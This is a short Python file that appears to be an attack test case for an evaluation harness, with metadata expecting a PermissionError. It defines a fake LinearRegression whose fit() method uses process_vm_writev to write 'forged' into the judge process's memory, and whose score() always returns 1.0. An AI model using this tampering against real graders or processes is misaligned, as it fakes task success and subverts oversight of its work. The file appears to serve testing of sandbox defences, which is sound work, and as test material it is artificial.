"""Write into the judge's memory."""
# /// attack
# goal = "effect"
# control = true
# says = "PermissionError"
# effect = "memory"
# ///

import ctypes
import os

SCENE = {}

libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    result = getattr(libc, name)(*arguments)
    if result == -1:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error), name)
    return result


class LinearRegression:
    def __init__(self, learning_rate=0.01, n_iterations=1000):
        pass

    def fit(self, X, y):
        here = ctypes.create_string_buffer(b"forged")
        local = (ctypes.c_size_t * 2)(ctypes.addressof(here), 6)
        remote = (ctypes.c_size_t * 2)(SCENE["address"], 6)
        call("process_vm_writev", SCENE["judge"], local, 1, remote, 1, 0)
        return self

    def predict(self, X):
        return X[:, 0]

    def score(self, X, y):
        return 1.0
